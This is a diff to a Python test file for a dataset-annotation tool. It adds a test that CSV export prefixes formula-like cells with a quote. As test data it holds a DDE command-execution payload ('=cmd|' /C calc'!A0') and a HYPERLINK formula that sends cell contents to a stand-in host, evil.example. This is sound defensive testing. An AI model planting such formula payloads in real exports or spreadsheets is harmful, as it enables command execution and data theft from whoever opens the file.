@@ -26,12 +26,13 @@ def campaign(annotator, annotator2):
     dataset = make_dataset(products=12, queries=6)
     campaign = make_campaign(dataset=dataset, name="export-me")
     item = make_item(campaign=campaign, b_on_left=True)  # A shows p0..p2, B shows p3..p5 (B on the left)
-    judgment_submit(item=item, annotator=annotator, submit_key="k1",
+    judgment_submit(require_reservation=False, item=item, annotator=annotator, submit_key="k1",
                     verdict=Verdict(choice=-1, left_marks={0: 3}, right_marks={2: 0}, reasons=["intent", "relevance"],
                                     comment='said "great", really'))
-    judgment_skip(item=make_item(campaign=campaign), annotator=annotator2, submit_key="k2")
+    judgment_skip(require_reservation=False, item=make_item(campaign=campaign), annotator=annotator2, submit_key="k2")
     other = make_campaign(dataset=dataset, name="not-me")
-    judgment_submit(item=make_item(campaign=other), annotator=annotator, submit_key="k3", verdict=Verdict(choice=2))
+    judgment_submit(require_reservation=False,
+                    item=make_item(campaign=other), annotator=annotator, submit_key="k3", verdict=Verdict(choice=2))
     return campaign
 
 
@@ -126,3 +127,29 @@ def test_database_unnesting_of_product_lists_matches_decoding_the_snapshots(camp
     ids = set(Item.objects.values_list("pk", flat=True))
     assert item_product_lists(item_ids=ids) == item_product_lists_in_python(item_ids=ids)
     assert item_product_lists(item_ids=set()) == {}
+
+
+def test_csv_export_neutralises_formula_cells_but_keeps_numbers_and_jsonl_verbatim(analyst):
+    from tests.conftest import make_user
+
+    dataset = make_dataset(products=12, queries=2)
+    campaign = make_campaign(dataset=dataset, name="=cmd|' /C calc'!A0")
+    from retrieval.models import Query
+
+    query = Query.objects.create(dataset=dataset, query_id="q-evil", text="-2+3 pans")
+    item = make_item(campaign=campaign, query=query, b_on_left=False)
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    judgment_submit(require_reservation=False, item=item, annotator=make_user("@mallory", None), submit_key="evil",
+                    verdict=Verdict(choice=-2, comment=evil))
+    client = token_client(analyst)
+    _, body = fetch(client, format="csv", campaign=campaign.pk)
+    row = next(csv.DictReader(io.StringIO(body)))
+    assert row["comment"] == "'" + evil
+    assert row["annotator"] == "'@mallory"
+    assert row["campaign"] == "'=cmd|' /C calc'!A0"
+    assert row["query"] == "'-2+3 pans"
+    assert (row["choice"], row["preference"]) == ("-2", "-2")  # genuine numbers stay numbers
+    _, body = fetch(client, format="jsonl", campaign=campaign.pk)
+    verbatim = json.loads(body.splitlines()[0])
+    assert verbatim["comment"] == evil and verbatim["annotator"] == "@mallory" and verbatim["query"] == "-2+3 pans"
+    assert verbatim["preference"] == -2
